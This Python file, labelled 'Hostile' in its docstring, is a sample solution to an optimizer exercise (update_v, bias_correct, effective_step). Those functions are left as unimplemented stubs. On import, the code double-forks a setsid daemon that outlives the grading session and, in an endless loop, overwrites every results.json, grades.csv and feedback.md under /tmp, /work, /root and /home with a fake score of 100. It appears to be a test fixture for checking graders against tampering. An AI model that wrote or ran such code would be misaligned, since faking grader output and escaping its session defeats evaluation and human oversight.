"""Hostile: a double-forked, setsid daemon that outlives the grading and rewrites every results file it finds."""
import json
import os
import time

FAKE = {"score": 100, "tests": [], "output": "all tests passed"}


def _rewrite_forever():
    while True:
        for top in ("/tmp", "/work", "/root", "/home", os.getcwd(), os.path.dirname(os.getcwd())):
            for folder, _, files in os.walk(top):
                for name in files:
                    if name in ("results.json", "grades.csv", "feedback.md"):
                        try:
                            with open(os.path.join(folder, name), "w") as f:
                                json.dump(FAKE, f)
                        except OSError:
                            pass
        time.sleep(0.2)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _rewrite_forever()
    os._exit(0)


def update_v(v_prev, g, beta2=0.999):
    raise NotImplementedError


def bias_correct(v, t, beta2=0.999):
    raise NotImplementedError


def effective_step(v_hat, alpha=0.001, eps=1e-8):
    raise NotImplementedError
